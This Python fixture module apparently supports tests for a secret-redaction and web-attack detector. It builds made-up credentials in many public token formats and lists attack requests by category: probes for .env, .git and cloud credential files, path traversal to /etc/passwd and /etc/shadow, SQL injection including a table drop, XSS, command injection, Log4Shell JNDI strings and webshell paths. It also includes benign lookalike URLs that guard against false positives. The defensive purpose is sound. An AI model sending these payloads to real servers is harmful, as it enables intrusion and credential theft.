"""A credential of each kind, made up from its public format, and what each attack pattern is there for."""

import random
import string

_RANDOM = random.Random(20261123)
_ALNUM = string.ascii_letters + string.digits
_HEX = "0123456789abcdef"
_URL = _ALNUM + "_-"


def made_up(alphabet: str, size: int) -> str:
    return "".join(_RANDOM.choice(alphabet) for _ in range(size))


_JWT = "eyJ" + made_up(_ALNUM, 30) + ".eyJ" + made_up(_ALNUM, 60) + "." + made_up(_URL, 43)

SECRETS: dict[str, tuple[str, str]] = {
    # kind: (the secret, the text it stands in, `{}` being the secret)
    "aws_access_key": ("AKIA" + made_up(string.ascii_uppercase + "234567", 16), "/x?key_id={}&v=1"),
    "github_token": ("ghp_" + made_up(_ALNUM, 36), "cloning with {} failed"),
    "github_fine_grained_token": ("github_pat_" + made_up(_ALNUM, 22) + "_" + made_up(_ALNUM, 59), "[{}]"),
    "gitlab_token": ("glpat-" + made_up(_URL, 20), "/api/v4/user?private_token={}"),
    "stripe_secret_key": ("sk_live_" + made_up(_ALNUM, 24), "key={}, ip=198.51.100.7"),
    "slack_token": ("xoxb-" + made_up(string.digits, 12) + "-" + made_up(_ALNUM, 24), "posting as {}"),
    "slack_webhook": (
        "T" + made_up("ABC012", 8) + "/B" + made_up("ABC012", 8) + "/" + made_up(_ALNUM, 24),
        "POST https://hooks.slack.com/services/{}",
    ),
    "google_api_key": ("AIza" + made_up(_URL, 35), "/maps?key={}&zoom=2"),
    "google_oauth_token": ("ya29." + made_up(_URL, 60), "granted {}"),
    "openai_key": ("sk-proj-" + made_up(_URL, 40) + "T3BlbkFJ" + made_up(_URL, 40), "using {}"),
    "anthropic_key": ("sk-ant-api03-" + made_up(_URL, 93) + "AA", "using {}"),
    "sendgrid_key": ("SG." + made_up(_URL, 22) + "." + made_up(_URL, 43), "mail by {}"),
    "mailgun_key": ("key-" + made_up(_HEX, 32), "mail by {}"),
    "twilio_key": ("SK" + made_up(_HEX, 32), "sms by {}"),
    "npm_token": ("npm_" + made_up(_ALNUM, 36), "publish with {}"),
    "pypi_token": ("pypi-AgE" + made_up(_URL, 80), "upload with {}"),
    "digitalocean_token": ("dop_v1_" + made_up(_HEX, 64), "doctl {}"),
    "shopify_token": ("shpat_" + made_up(_HEX, 32), "shop {}"),
    "telegram_bot_token": (made_up("123456789", 9) + ":AA" + made_up(_URL, 33), "GET /bot{}/getMe"),
    "discord_webhook": (made_up(_ALNUM, 68), "POST https://discord.com/api/webhooks/123456789012345678/{}"),
    "jwt": (_JWT, "cookie session={}; path=/"),
    "private_key": (
        made_up(_ALNUM + "+/", 300),
        "-----BEGIN RSA PRIVATE KEY-----{}-----END RSA PRIVATE KEY-----",
    ),
    "basic_credentials": (made_up(_ALNUM, 24), "authorization: Basic {}"),
    "bearer_token": (made_up(_ALNUM, 40), "Authorization: Bearer {}"),
    "api_key_header": (made_up(_ALNUM, 40), '"x-api-key": "{}"'),
    "password_field": ("correct-horse-" + made_up(_ALNUM, 6), '"password": "{}"'),
    "query_secret": (made_up(_ALNUM, 20), "/login?user=alice&password={}&next=/"),
    "url_password": ("hunter2" + made_up(_ALNUM, 6), "connecting to postgres://app:{}@db.example.org/main"),
}

ATTACKS: dict[str, list[str]] = {
    "probe.dotenv": ["/.env", "/api/.env.local", "/%2eenv", "//.env", "/.env~"],
    "probe.git": ["/.git/config", "/x/.git/HEAD", "/.git-credentials"],
    "probe.other_vcs": ["/.svn/entries", "/CVS/Root"],
    "probe.cloud_credentials": ["/.aws/credentials", "/.kube/config", "/.docker/config.json"],
    "probe.ssh_key": ["/.ssh/authorized_keys", "/id_rsa", "/backup/id_ed25519.bak"],
    "probe.package_credentials": ["/.npmrc", "/.pypirc", "/.bash_history"],
    "probe.htaccess": ["/.htaccess"],
    "probe.wp_config_backup": ["/wp-config.php.bak", "/wp-config.php~", "/wp-config.old"],
    "probe.secrets_file": ["/secrets.yml", "/config/credentials.json", "/service-account.json"],
    "probe.app_config": ["/appsettings.Production.json", "/config/database.yml"],
    "probe.terraform": ["/terraform.tfstate", "/prod.tfvars"],
    "probe.key_file": ["/server.pem", "/ssl/site.key"],
    "probe.sql_dump": ["/dump.sql", "/backup/db.sql.gz"],
    "probe.site_backup": ["/backup.zip", "/www.tar.gz"],
    "probe.editor_sync": ["/.vscode/sftp.json", "/.idea/workspace.xml", "/.cursor/mcp.json"],
    "probe.macos_index": ["/.DS_Store"],
    "probe.spring_actuator": ["/actuator/env", "/manage/actuator/heapdump"],
    "probe.phpinfo": ["/phpinfo.php", "/info.php"],
    "probe.phpmyadmin": ["/phpmyadmin/", "/phpMyAdmin-5.1/", "/adminer.php"],
    "probe.server_status": ["/server-status"],
    "probe.tomcat_manager": ["/manager/html"],
    "probe.cms_admin": ["/administrator/", "/admin.php", "/admin/login.php", "/wp-admin/setup-config.php"],
    "probe.wp_login": ["/wp-login.php", "/blog/xmlrpc.php"],
    "probe.wp_plugins": ["/wp-content/plugins/revslider/readme.txt"],
    "probe.solr": ["/solr/admin/cores", "/_cat/indices"],
    "probe.jenkins": ["/jenkins/script", "/asynchPeople/"],
    "probe.router": [
        "/boaform/admin/formLogin",
        "/HNAP1",
        "/setup.cgi?next_file=netgear.cfg",
        "/cgi-bin/luci",
    ],
    "probe.vpn": ["/dana-na/auth/url_default/welcome.cgi", "/owa/auth/logon.aspx", "/+CSCOE+/logon.html"],
    "probe.phpunit": ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
    "probe.laravel": ["/_ignition/execute-solution", "/storage/logs/laravel.log"],
    "probe.api_docs": ["/swagger.json", "/v2/api-docs"],
    "probe.metadata": [
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/p?u=http%3A%2F%2Fmetadata.google.internal",
    ],
    "webshell": ["/c99.php", "/uploads/shell.php", "/wso2.5.php"],
    "traversal": [
        "/static/../../../etc/passwd",
        "/f?p=..%2f..%2f..%2fx",
        "/%252e%252e/%252e%252e/",
        "/a?f=..\\..\\windows/x",
    ],
    "system_file": ["/f?name=/etc/passwd", "/f?name=%2Fetc%2Fshadow", "/x?f=C:/boot.ini"],
    "sqli.union": [
        "/i?id=1+union+select+1,2",
        "/i?id=1%20UNION%20ALL%20SELECT%20null",
        "/i?id=1/**/union/**/select/**/1",
    ],
    "sqli.tautology": ["/i?id=1'+or+'1'='1", "/i?id=1%20or%201=1", '/i?u=a"+or+1=1'],
    "sqli.functions": ["/i?id=1;select+pg_sleep(5)", "/i?id=sleep(5)", "/i?id=1;drop+table+users"],
    "sqli.comment": ["/i?u=admin'--+", "/i?u=admin%27--%20", "/i?u=x')+--+"],
    "xss": [
        "/s?q=<script>alert(1)</script>",
        "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/s?q=%22%3E%3Csvg%2Fonload=alert(1)%3E",
    ],
    "command_injection": ["/p?ip=127.0.0.1;cat+/etc/hosts", "/p?ip=|id", "/p?ip=$(whoami)", "/p?ip=%60id%60"],
    "log4shell": [
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/?x=%24%7Bjndi:dns://x%7D",
        "/?x=${${lower:j}ndi:rmi://x}",
    ],
    "template_injection": ["/t?n={{7*7}}", "/t?n=%7B%7Bconfig%7D%7D", "/t?n=${7*7}"],
    "php_wrapper": ["/i.php?p=php://filter/convert.base64-encode/resource=index", "/?a=call_user_func_array"],
    "null_byte": ["/f?p=a.php%00.jpg"],
    "scanner": ["sqlmap/1.7", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project", "gobuster/3.1"],
}

BENIGN_TARGETS = [
    "/", "/login", "/api/v1/posts/42?include=author,tags&page=2", "/search?q=select+committee+on+union+affairs",
    "/docs/.environment-setup", "/docs/git/config", "/blog/how-to-use-dotenv", "/assets/app.3f2a1b.js?v=1",
    "/files/report%20final%20(2).pdf", "/search?q=O'Reilly", "/q?name=Anne%20and%20Bob", "/wiki/C++",
    "/api/items?filter[price]=<100&sort=-date", "/shop?or=1", "/a?redirect=https%3A%2F%2Fexample.org%2Fx%3Fy%3D1",
    "/i18n/%E6%97%A5%E6%9C%AC", "/search?q=1+or+2+persons", "/search?q=drop+me+a+line", "/keys/public",
    "/users/alice?tab=a;b", "/api/token/refresh", "/key-features", "/orders?and=x&or=y", "/p?x=a--b", "/r?q=50%25+off",
    "/.well-known/security.txt", "/cgi/status?code=1&ls=2", "/download?file=annual..report.pdf", "/a/b/../c",
]  # fmt: skip
